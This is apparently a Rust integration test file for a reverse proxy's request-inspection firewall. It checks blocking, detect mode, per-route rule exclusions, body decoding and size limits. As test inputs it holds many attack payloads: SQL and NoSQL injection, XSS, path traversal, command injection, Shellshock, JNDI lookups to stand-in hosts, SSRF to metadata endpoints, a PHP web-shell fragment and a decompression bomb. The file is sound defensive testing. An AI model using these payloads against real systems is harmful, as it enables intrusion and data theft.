//! Request inspection through the real proxy: block, detect, per-route rule exclusions and
//! excluded parameters, bodies (JSON, form), and on a signing route.

use crate::common::*;

#[test]
fn block_detect_and_the_false_positive_workflow() {
    let up = echo("u");
    let policy = format!(
        r#"inspection:
  mode: block
upstreams:
  - {{ name: u, peers: ["{}"] }}
routes:
  - {{ name: api, path_prefix: /, upstream: u }}
  - {{ name: watch, path_prefix: /watch/, upstream: u, inspection: {{ mode: detect }} }}
  - {{ name: docs, path_prefix: /docs/, upstream: u, inspection: {{ disabled_rules: [942100, 942110], exclude_params: [snippet] }} }}
  - {{ name: raw, path_prefix: /raw/, upstream: u, inspection: {{ mode: off }} }}
"#,
        up.addr()
    );
    let gw = Gateway::start(&policy);
    let ag = agent();
    let r = send(&ag, "GET", &gw.url("/?q=1%27%20OR%20%271%27=%271"), &[]).unwrap();
    assert_eq!(r.status, 403, "{}", r.body);
    let j = r.json();
    assert_eq!(j["error"], "request_blocked");
    assert!(j["message"].as_str().unwrap().contains("(sqli)"), "{j}");
    assert!(!r.body.contains("OR"), "the payload is never echoed");
    assert_eq!(
        send(&ag, "GET", &gw.url("/?q=rock+%26+roll+O%27Brien"), &[])
            .unwrap()
            .status,
        200
    );

    // Bodies: JSON walked value by value, forms decoded.
    let body = r#"{"user":{"name":"x","bio":"<script>alert(1)</script>"}}"#;
    let r = ag
        .post(&gw.url("/profile"))
        .set("Content-Type", "application/json")
        .send_string(body);
    let status = match r {
        Ok(r) => r.status(),
        Err(ureq::Error::Status(s, _)) => s,
        Err(e) => panic!("{e}"),
    };
    assert_eq!(status, 403);
    let benign = r#"{"name":"O'Brien","note":"drop by at 5"}"#;
    let ok = ag
        .post(&gw.url("/profile"))
        .set("Content-Type", "application/json")
        .send_string(benign)
        .unwrap();
    let echoed: serde_json::Value = serde_json::from_str(&ok.into_string().unwrap()).unwrap();
    assert_eq!(
        echoed["body_bytes"],
        benign.len(),
        "the held body reaches the upstream whole"
    );
    let form_body = "file=..%2F..%2Fetc%2Fpasswd";
    let form = format!("POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form_body}", form_body.len());
    let resp = raw(gw.listen, form.as_bytes());
    assert_eq!(status_of(&resp), 403, "{resp}");

    // Detect mode forwards with a flag for the upstream.
    let r = send(&ag, "GET", &gw.url("/watch/?cmd=%3Bcat%20%2Fetc%2Fpasswd"), &[]).unwrap();
    assert_eq!(r.status, 200);
    assert!(
        r.json()["headers"]["x-qv-inspection"]
            .as_str()
            .unwrap()
            .contains("class="),
        "{}",
        r.body
    );

    // The false-positive workflow: a rule switched off for one route, a parameter excluded.
    assert_eq!(
        send(&ag, "GET", &gw.url("/docs/?q=1%27%20OR%20%271%27=%271"), &[])
            .unwrap()
            .status,
        200
    );
    assert_eq!(
        send(
            &ag,
            "GET",
            &gw.url("/docs/?snippet=%3Cscript%3Ealert(1)%3C/script%3E"),
            &[]
        )
        .unwrap()
        .status,
        200
    );
    assert_eq!(
        send(
            &ag,
            "GET",
            &gw.url("/docs/?other=%3Cscript%3Ealert(1)%3C/script%3E"),
            &[]
        )
        .unwrap()
        .status,
        403
    );
    assert_eq!(
        send(&ag, "GET", &gw.url("/raw/?q=%3Cscript%3E"), &[]).unwrap().status,
        200
    );

    let metrics = get(&gw.admin_url("/metrics")).body;
    assert!(
        metrics.contains("quantumvault_inspection_findings_total{route=\"api\",class=\"sqli\""),
        "{metrics}"
    );
    assert!(metrics.contains("action=\"detect\""), "{metrics}");
    gw.wait_for(5, "access log", || {
        std::fs::read_to_string(gw.path("access.log"))
            .unwrap_or_default()
            .contains("inspection_rule")
    });
    let log = std::fs::read_to_string(gw.path("access.log")).unwrap();
    assert!(log.contains("\"outcome\":\"inspection:"), "{log}");
    assert!(!log.contains("passwd"), "payloads never reach the log");
}

/// Rules of the operator's own live in a policy file of their own, hot-reload, can be disabled
/// per route like the built-in ones, and a broken pattern names file, line and field while the
/// running rules stay.
#[test]
fn own_rules_from_a_reloadable_rules_file() {
    let up = echo("u");
    let policy = format!(
        r#"inspection:
  mode: block
upstreams:
  - {{ name: u, peers: ["{}"] }}
routes:
  - {{ name: api, path_prefix: /, upstream: u }}
  - {{ name: legacy, path_prefix: /legacy/, upstream: u, inspection: {{ disabled_rules: [1000001] }} }}
"#,
        up.addr()
    );
    let rules = "inspection_rules:\n  - id: 1000001\n    class: cmdi\n    paranoia: 1\n    description: JNDI-style remote lookup\n    pattern: 'ldaps?://'\n";
    let gw = Gateway::start_with_pre(&policy, "", |conf| {
        std::fs::write(conf.parent().unwrap().join("policies/waf-rules.yaml"), rules).unwrap();
    });
    let rules_file = gw.path("policies/waf-rules.yaml");
    let ag = agent();
    let probe = "/?q=ldap%3A%2F%2Fevil.example%2Fx";
    let r = send(&ag, "GET", &gw.url(probe), &[]).unwrap();
    assert_eq!(r.status, 403, "{}", r.body);
    assert!(r.body.contains("1000001") && r.body.contains("(cmdi)"), "{}", r.body);
    assert_eq!(
        send(&ag, "GET", &gw.url(&format!("/legacy{probe}")), &[])
            .unwrap()
            .status,
        200,
        "switched off for one route"
    );

    // A rule added to the file applies after the reload it triggers.
    let wais = "/?q=wais%3A%2F%2Finternal%3A210%2F";
    assert_eq!(send(&ag, "GET", &gw.url(wais), &[]).unwrap().status, 200);
    let more =
        format!("{rules}  - id: 1000002\n    class: cmdi\n    description: wais smuggling\n    pattern: 'wais://'\n");
    let g = gw.generation();
    std::fs::write(&rules_file, &more).unwrap();
    gw.wait_for(10, "reload with the new rule", || gw.generation() > g);
    assert_eq!(send(&ag, "GET", &gw.url(wais), &[]).unwrap().status, 403);

    // A broken pattern: the error names the file, line and field; the running rules stay.
    std::fs::write(&rules_file, rules.replace("'ldaps?://'", "'ldap(s?://'")).unwrap();
    gw.wait_for(10, "reload error", || gw.health()["status"] == "degraded");
    let reasons = gw.health()["reasons"].to_string();
    assert!(
        reasons.contains("waf-rules.yaml:6:5: inspection_rules[0].pattern: error: unclosed group"),
        "{reasons}"
    );
    assert_eq!(send(&ag, "GET", &gw.url(probe), &[]).unwrap().status, 403);
    // A built-in id cannot be redefined.
    std::fs::write(&rules_file, rules.replace("1000001", "942100")).unwrap();
    gw.wait_for(10, "second reload error", || {
        gw.health()["reasons"]
            .to_string()
            .contains("942100 is a built-in rule id")
    });
}

/// A gateway in front of an echo upstream: `/` blocks, `/watch/` detects, `/small/` blocks with
/// a 1 KiB bound, `/pass/` passes what is over that bound.
fn body_gateway() -> (EchoServer, Gateway) {
    let up = echo("u");
    let policy = format!(
        r#"inspection:
  mode: block
upstreams:
  - {{ name: u, peers: ["{}"] }}
routes:
  - {{ name: api, path_prefix: /, upstream: u }}
  - {{ name: watch, path_prefix: /watch/, upstream: u, inspection: {{ mode: detect }} }}
  - {{ name: small, path_prefix: /small/, upstream: u, inspection: {{ max_body: 1KiB }} }}
  - {{ name: pass, path_prefix: /pass/, upstream: u, inspection: {{ max_body: 1KiB, oversize: pass }} }}
"#,
        up.addr()
    );
    let gw = Gateway::start(&policy);
    (up, gw)
}

/// POSTs `body` with `headers` (each ending in CRLF) and a Content-Length, on a raw socket.
fn post(gw: &Gateway, path: &str, headers: &str, body: &[u8]) -> String {
    let mut req = format!(
        "POST {path} HTTP/1.1\r\nHost: a\r\n{headers}Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    raw(gw.listen, &req)
}

/// The JSON body of a raw response.
fn json_of(resp: &str) -> serde_json::Value {
    let body = resp.split_once("\r\n\r\n").map(|(_, b)| b).unwrap_or("");
    serde_json::from_str(body).unwrap_or_else(|e| panic!("not JSON ({e}): {resp}"))
}

fn gzip(b: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

const SQLI: &str = "1' OR '1'='1";

#[test]
fn header_and_cookie_values_with_non_ascii_bytes_are_inspected() {
    let (_up, gw) = body_gateway();
    let get = |headers: &[u8]| {
        let req = [b"GET / HTTP/1.1\r\nHost: a\r\n".as_slice(), headers, b"\r\n"].concat();
        status_of(&raw(gw.listen, &req))
    };
    // One Latin-1 byte (0xe9) or one UTF-8 character after the payload.
    for tail in [b"\xe9".as_slice(), "é".as_bytes()] {
        let cookie = [b"Cookie: theme=dark; id=' OR '1'='1".as_slice(), tail, b"\r\n"].concat();
        assert_eq!(get(&cookie), 403, "cookie with {tail:?}");
        let header = [b"X-Search: <script>alert(1)</script>".as_slice(), tail, b"\r\n"].concat();
        assert_eq!(get(&header), 403, "header with {tail:?}");
        // The same bytes around a benign value pass.
        let benign = [b"Cookie: name=Zo".as_slice(), tail, b"; city=Paris\r\n"].concat();
        assert_eq!(get(&benign), 200, "benign cookie with {tail:?}");
    }
    // A raw non-ASCII byte in the request target does not hide its query.
    let req = b"GET /?q=%27%20OR%20%271%27=%271\xe9 HTTP/1.1\r\nHost: a\r\n\r\n";
    let status = status_of(&raw(gw.listen, req));
    assert!(
        status == 403 || status == 400,
        "refused by the parser or blocked: {status}"
    );
}

#[test]
fn every_header_is_inspected_also_those_removed_before_forwarding() {
    let (_up, gw) = body_gateway();
    let get = |headers: &str| {
        let req = format!("GET / HTTP/1.1\r\nHost: a\r\n{headers}\r\n");
        status_of(&raw(gw.listen, req.as_bytes()))
    };
    for h in [
        "User-Agent: () { :; }; /bin/bash -c 'id'\r\n",
        "Referer: https://shop.example/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E\r\n",
        "Authorization: Bearer ${jndi:ldap://x.example/a}\r\n",
        "X-Api-Version: ${${lower:j}ndi:${lower:l}dap://x.example/a}\r\n",
        "Accept-Language: en;q=0.9, ' UNION SELECT password FROM users--\r\n",
        // Untrusted peers' X-Forwarded-Host and X-Original-URL are removed before forwarding,
        // and still inspected: whoever sends a payload there is attacking.
        "X-Forwarded-Host: ') or true--\r\n",
        "X-Original-URL: http://169.254.169.254/latest/meta-data/\r\n",
        "True-Client-IP: ;cat /etc/passwd\r\n",
    ] {
        assert_eq!(get(h), 403, "{h}");
    }
    // A browser on a developer's machine: its Referer names localhost, and that is no SSRF.
    assert_eq!(get("Referer: http://localhost:3000/checkout?step=2\r\n"), 200);
    assert_eq!(get("X-Forwarded-Host: shop.example.com\r\n"), 200);
}

#[test]
fn xml_and_the_new_classes_are_inspected_end_to_end() {
    let (_up, gw) = body_gateway();
    let send = |ct: &str, body: &str| status_of(&post(&gw, "/", &format!("Content-Type: {ct}\r\n"), body.as_bytes()));
    // Split across CDATA sections, as a SOAP client may send it: the parser joins them.
    let soap = "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>\
                <Find><q><![CDATA[1' OR]]><![CDATA[ '1'='1]]></q></Find></soap:Body></soap:Envelope>";
    assert_eq!(send("application/soap+xml", soap), 403);
    assert_eq!(
        send(
            "text/xml",
            "<m><java.lang.ProcessBuilder><command/></java.lang.ProcessBuilder></m>"
        ),
        403
    );
    assert_eq!(
        send("application/json", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#),
        403
    );
    assert_eq!(
        send(
            "application/json",
            r#"{"page":{"template":"http://198.51.100.7/shell.txt?"}}"#
        ),
        403
    );
    assert_eq!(
        send(
            "application/json",
            r#"{"webhook":"http://[::ffff:a9fe:a9fe]/latest/meta-data/"}"#
        ),
        403
    );
    assert_eq!(
        send(
            "application/x-www-form-urlencoded",
            "x=%3C%3Fphp+system%28%24_GET%5Bc%5D%29%3B"
        ),
        403
    );
    assert_eq!(
        send(
            "application/x-www-form-urlencoded",
            "host=8.8.8.8%26%26powershell+-enc+SQBFAFgA"
        ),
        403
    );
    // The work a body may cost is bounded: nesting past max_depth (64) and more than
    // max_values (10,000) values are refused, naming the rule.
    let deep = format!("{}1{}", "[".repeat(65), "]".repeat(65));
    let resp = post(&gw, "/", "Content-Type: application/json\r\n", deep.as_bytes());
    assert_eq!(status_of(&resp), 403);
    assert!(json_of(&resp)["message"].as_str().unwrap().contains("920120"), "{resp}");
    let many = format!("[{}]", vec!["\"o'k\""; 10_001].join(","));
    let resp = post(&gw, "/", "Content-Type: application/json\r\n", many.as_bytes());
    assert!(json_of(&resp)["message"].as_str().unwrap().contains("920110"), "{resp}");
    let enough = format!("[{}]", vec!["\"o'k\""; 10_000].join(","));
    assert_eq!(send("application/json", &enough), 200);
    // Benign business documents pass.
    let plist = "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \
                 \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist><dict><key>Name</key>\
                 <string>L'Oréal Paris</string></dict></plist>";
    assert_eq!(send("application/xml", plist), 200);
    assert_eq!(
        send(
            "application/json",
            r#"{"page":"https://docs.example.com/guide","note":"O'Brien; drop by at 5"}"#
        ),
        200
    );
}

#[test]
fn bodies_are_inspected_as_what_they_are_whatever_their_type() {
    let (up, gw) = body_gateway();
    let json = format!(r#"  {{"user":{{"q":"{SQLI}"}}}}"#);
    let escaped = r#"{"q":"\u0027 OR \u00271\u0027=\u00271"}"#;
    let form = "a=1&q=1%27%20OR%20%271%27%3D%271";
    let xml = "<?xml version=\"1.0\"?><r><q title=\"&lt;script&gt;alert(1)&lt;/script&gt;\">x</q></r>";
    for ct in [
        "",
        "Content-Type: text/plain\r\n",
        "Content-Type: text/plain; charset=utf-8\r\n",
        "Content-Type: application/octet-stream\r\n",
        "Content-Type: image/png\r\n",
        "Content-Type: APPLICATION/JSON\r\n",
        "Content-Type: application/x-www-form-urlencoded\r\n",
    ] {
        for body in [json.as_str(), escaped, form, xml, "<svg onload=alert(1)>", SQLI] {
            let resp = post(&gw, "/x", ct, body.as_bytes());
            assert_eq!(status_of(&resp), 403, "{ct:?} {body}: {resp}");
            assert_eq!(json_of(&resp)["error"], "request_blocked");
        }
    }
    // Benign bodies of each kind pass, whole, under any type.
    for (ct, body) in [
        ("Content-Type: text/plain\r\n", r#"{"name":"O'Brien","n":[1,2.5]}"#),
        ("", "name=O%27Brien&city=New+York"),
        ("Content-Type: application/xml\r\n", "<a href=\"/x\">Rock and roll</a>"),
        ("Content-Type: image/png\r\n", "\u{89}PNG\r\n\u{1a}\n binary-ish"),
    ] {
        let resp = post(&gw, "/x", ct, body.as_bytes());
        assert_eq!(status_of(&resp), 200, "{ct:?} {body}: {resp}");
        assert_eq!(json_of(&resp)["body_bytes"], body.len());
    }
    // JSON in UTF-16 (with and without a BOM), as Jackson reads it.
    let doc = format!(r#"{{"q":"{SQLI}"}}"#);
    let utf16: Vec<u8> = doc.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    for (ct, body) in [
        (
            "Content-Type: application/json; charset=utf-16\r\n",
            [vec![0xff, 0xfe], utf16.clone()].concat(),
        ),
        ("Content-Type: application/json\r\n", utf16),
    ] {
        assert_eq!(status_of(&post(&gw, "/x", ct, &body)), 403, "{ct:?}");
    }
    // What cannot be read the way the application reads it is refused, with a JSON answer.
    let ebcdic = post(
        &gw,
        "/x",
        "Content-Type: application/x-www-form-urlencoded; charset=ibm037\r\n",
        b"q=1",
    );
    assert_eq!(
        (status_of(&ebcdic), json_of(&ebcdic)["error"].as_str()),
        (415, Some("unsupported_charset"))
    );
    let two = post(
        &gw,
        "/x",
        "Content-Type: application/json\r\nContent-Type: text/plain\r\n",
        b"{}",
    );
    assert_eq!(
        (status_of(&two), json_of(&two)["error"].as_str()),
        (400, Some("ambiguous_content_type"))
    );
    drop(up);
}

#[test]
fn compressed_bodies_are_inspected_decompressed_and_forwarded_compressed() {
    use std::io::Write;
    let (_up, gw) = body_gateway();
    let attack = format!(r#"{{"q":"{SQLI}"}}"#);
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    zlib.write_all(attack.as_bytes()).unwrap();
    let mut deflate = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    deflate.write_all(attack.as_bytes()).unwrap();
    for (ce, body) in [
        ("gzip", gzip(attack.as_bytes())),
        ("GZIP", gzip(attack.as_bytes())),
        ("x-gzip", gzip(attack.as_bytes())),
        ("deflate", zlib.finish().unwrap()),
        ("Deflate", deflate.finish().unwrap()),
        ("gzip, gzip", gzip(&gzip(attack.as_bytes()))),
    ] {
        let headers = format!("Content-Type: application/json\r\nContent-Encoding: {ce}\r\n");
        assert_eq!(status_of(&post(&gw, "/x", &headers, &body)), 403, "{ce}");
        // Chunked too.
        let mut req = format!(
            "POST /x HTTP/1.1\r\nHost: a\r\n{headers}Transfer-Encoding: chunked\r\n\r\n{:x}\r\n",
            body.len()
        )
        .into_bytes();
        req.extend_from_slice(&body);
        req.extend_from_slice(b"\r\n0\r\n\r\n");
        assert_eq!(status_of(&raw(gw.listen, &req)), 403, "{ce}, chunked");
    }
    // A benign compressed body reaches the upstream as it was sent: compressed, still labelled.
    let benign = gzip(br#"{"name":"O'Brien"}"#);
    let resp = post(
        &gw,
        "/x",
        "Content-Type: application/json\r\nContent-Encoding: gzip\r\n",
        &benign,
    );
    assert_eq!(status_of(&resp), 200, "{resp}");
    let echoed = json_of(&resp);
    assert_eq!(echoed["body_bytes"], benign.len());
    assert_eq!(echoed["headers"]["content-encoding"], "gzip");
    // Encodings the gateway cannot undo: 415 (in detect mode too).
    for ce in ["br", "zstd", "x-foo", "gzip, br", "gzip, gzip, gzip"] {
        for path in ["/x", "/watch/x"] {
            let resp = post(&gw, path, &format!("Content-Encoding: {ce}\r\n"), b"\x1b\x00abc");
            assert_eq!(status_of(&resp), 415, "{ce} {path}: {resp}");
            assert_eq!(json_of(&resp)["error"], "unsupported_content_encoding");
        }
    }
    // A bomb: 1 KiB route bound, 200 KiB compressed to a few hundred bytes, refused with 413.
    let bomb = gzip(&vec![b'a'; 200 << 10]);
    assert!(bomb.len() < 1024, "{}", bomb.len());
    let resp = post(&gw, "/small/x", "Content-Encoding: gzip\r\n", &bomb);
    assert_eq!(
        (status_of(&resp), json_of(&resp)["error"].as_str()),
        (413, Some("body_too_large")),
        "{resp}"
    );
    // The default 1 MiB bound holds too: 8 MiB in about 8 KB.
    let bomb = gzip(&vec![b'a'; 8 << 20]);
    let resp = post(&gw, "/x", "Content-Encoding: gzip\r\n", &bomb);
    assert_eq!(status_of(&resp), 413, "{resp}");
    // Not gzip at all under a gzip label: 400.
    let resp = post(&gw, "/x", "Content-Encoding: gzip\r\n", b"q=1");
    assert_eq!(
        (status_of(&resp), json_of(&resp)["error"].as_str()),
        (400, Some("invalid_content_encoding"))
    );
}

#[test]
fn multipart_part_headers_and_lf_line_ends() {
    let (_up, gw) = body_gateway();
    let part = |disp: &str, content: &str, eol: &str| {
        format!("--b0undary{eol}Content-Disposition: form-data; {disp}{eol}Content-Type: text/plain{eol}{eol}{content}{eol}--b0undary--{eol}")
    };
    let ct = "Content-Type: multipart/form-data; boundary=b0undary\r\n";
    let send = |ct: &str, body: String| status_of(&post(&gw, "/upload", ct, body.as_bytes()));
    assert_eq!(send(ct, part("name=\"note\"", "hello there", "\r\n")), 200);
    assert_eq!(send(ct, part("name=\"note\"", "hello there", "\n")), 200);
    assert_eq!(send(ct, part("name=\"note\"", SQLI, "\r\n")), 403);
    // LF-only line ends: the content is still a part's content.
    assert_eq!(send(ct, part("name=\"note\"", SQLI, "\n")), 403);
    // Part headers: a filename, a name.
    assert_eq!(
        send(
            ct,
            part(
                "name=\"f\"; filename=\"<script>alert(1)</script>.png\"",
                "GIF89a",
                "\r\n"
            )
        ),
        403
    );
    assert_eq!(send(ct, part("name=\"x' OR '1'='1\"", "v", "\n")), 403);
    // The header names no boundary, or another one: the body's first line gives it.
    for ct in [
        "Content-Type: multipart/form-data\r\n",
        "Content-Type: multipart/form-data; boundary=zzz\r\n",
        "",
    ] {
        assert_eq!(send(ct, part("name=\"note\"", SQLI, "\n")), 403, "{ct:?}");
    }
}

#[test]
fn bodies_over_the_bound_are_refused_cleanly_or_passed_when_configured() {
    let (_up, gw) = body_gateway();
    let big = vec![b'a'; 200 * 1024];
    // Content-Length over the bound: 413 JSON before the body is read.
    let resp = post(&gw, "/small/x", "Content-Type: text/plain\r\n", &big);
    assert_eq!(status_of(&resp), 413, "{resp}");
    assert_eq!(json_of(&resp)["error"], "body_too_large");
    // Chunked: counted as it streams, refused once over, answered cleanly after the client has
    // sent it all (a gateway that closed with unread bytes would reset the connection).
    for (chunks, size) in [(2, 1024), (50, 4096)] {
        let mut req = b"POST /small/x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
        for _ in 0..chunks {
            req.extend_from_slice(format!("{size:x}\r\n").as_bytes());
            req.extend_from_slice(&big[..size]);
            req.extend_from_slice(b"\r\n");
        }
        req.extend_from_slice(b"0\r\n\r\n");
        let resp = raw(gw.listen, &req);
        assert_eq!(status_of(&resp), 413, "{chunks}x{size}: {resp}");
        assert_eq!(json_of(&resp)["error"], "body_too_large");
    }
    // Under the bound, a body that arrives in many pieces is held and reaches the upstream whole.
    let mut req = b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    for _ in 0..50 {
        req.extend_from_slice(b"1000\r\n");
        req.extend_from_slice(&big[..4096]);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"0\r\n\r\n");
    let resp = raw(gw.listen, &req);
    assert_eq!(status_of(&resp), 200, "{resp}");
    assert_eq!(json_of(&resp)["body_bytes"], 50 * 4096);
    let resp = post(&gw, "/x", "", &big);
    assert_eq!(
        (status_of(&resp), json_of(&resp)["body_bytes"].as_u64()),
        (200, Some(big.len() as u64))
    );
    // The tail of an oversized body would be uninspected: refused even when the attack is in the
    // tail, unless oversize is pass.
    let mut tail = vec![b'a'; 2000];
    tail.extend_from_slice(SQLI.as_bytes());
    assert_eq!(status_of(&post(&gw, "/small/x", "", &tail)), 413);
    let resp = post(&gw, "/pass/x", "", &tail);
    assert_eq!(status_of(&resp), 200, "{resp}");
    assert_eq!(json_of(&resp)["body_bytes"], tail.len());
    // In pass mode the prefix is still inspected.
    let mut head = SQLI.as_bytes().to_vec();
    head.extend_from_slice(&[b' '; 2000]);
    assert_eq!(status_of(&post(&gw, "/pass/x", "", &head)), 403);
    let metrics = get(&gw.admin_url("/metrics")).body;
    assert!(
        metrics.contains("quantumvault_inspection_oversize_total{route=\"pass\"}"),
        "{metrics}"
    );
    assert!(
        !metrics.contains("quantumvault_inspection_oversize_total{route=\"small\"}"),
        "{metrics}"
    );
}

/// In detect mode a body finding cannot reach the upstream in `X-QV-Inspection`: Pingora has
/// written the upstream request header before the body phase runs. It is in the metric and the
/// access log, and the body is forwarded whole.
#[test]
fn detect_mode_body_findings_are_counted_and_logged() {
    let (_up, gw) = body_gateway();
    let body = format!(r#"{{"q":"{SQLI}"}}"#);
    let resp = post(&gw, "/watch/x", "Content-Type: text/plain\r\n", body.as_bytes());
    assert_eq!(status_of(&resp), 200, "{resp}");
    let echoed = json_of(&resp);
    assert_eq!(echoed["body_bytes"], body.len());
    assert!(echoed["headers"].get("x-qv-inspection").is_none(), "{echoed}");
    let metrics = get(&gw.admin_url("/metrics")).body;
    assert!(
        metrics.lines().any(
            |l| l.starts_with("quantumvault_inspection_findings_total{route=\"watch\",class=\"sqli\"")
                && l.contains("action=\"detect\"")
        ),
        "{metrics}"
    );
    gw.wait_for(5, "access log", || {
        std::fs::read_to_string(gw.path("access.log"))
            .unwrap_or_default()
            .contains("inspection_rule")
    });
}

#[test]
fn held_bodies_share_one_budget_and_over_it_get_503_with_retry_after() {
    use std::io::{Read, Write};
    use std::time::Duration;
    let up = echo("u");
    let policy = format!(
        "inspection:\n  mode: block\nupstreams:\n  - {{ name: u, peers: [\"{}\"] }}\nroutes:\n  - {{ name: api, path_prefix: /, upstream: u }}\n",
        up.addr()
    );
    let gw = Gateway::start_with(&policy, "memory:\n  held_bytes: 128KiB\n");
    // A slow upload holds 60 KiB of its 100 KiB body while it waits for the rest.
    let mut slow = std::net::TcpStream::connect(gw.listen).unwrap();
    slow.write_all(b"POST /a HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 102400\r\n\r\n")
        .unwrap();
    let half = format!("[\"{}", "x".repeat(60 * 1024 - 2));
    slow.write_all(half.as_bytes()).unwrap();
    std::thread::sleep(Duration::from_millis(500));
    // Another 80 KiB body would take the total over 128 KiB: 503 with Retry-After.
    let body = format!("[\"{}\"]", "y".repeat(80 * 1024));
    let resp = post(&gw, "/b", "Content-Type: application/json\r\n", body.as_bytes());
    assert_eq!(status_of(&resp), 503, "{resp}");
    assert!(resp.to_ascii_lowercase().contains("retry-after: 1"), "{resp}");
    assert_eq!(json_of(&resp)["error"], "busy");
    let metrics = get(&gw.admin_url("/metrics")).body;
    assert!(
        metrics.contains("quantumvault_held_budget_exhausted_total{kind=\"inspection\"} 1"),
        "{metrics}"
    );
    // The slow upload finishes and is forwarded; its share comes back, and the other fits now.
    let rest = format!("{}\"]", "x".repeat(100 * 1024 - half.len() - 2));
    slow.write_all(rest.as_bytes()).unwrap();
    slow.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut buf = [0u8; 4096];
    let n = slow.read(&mut buf).unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    assert_eq!(
        status_of(&post(&gw, "/b", "Content-Type: application/json\r\n", body.as_bytes())),
        200
    );
}
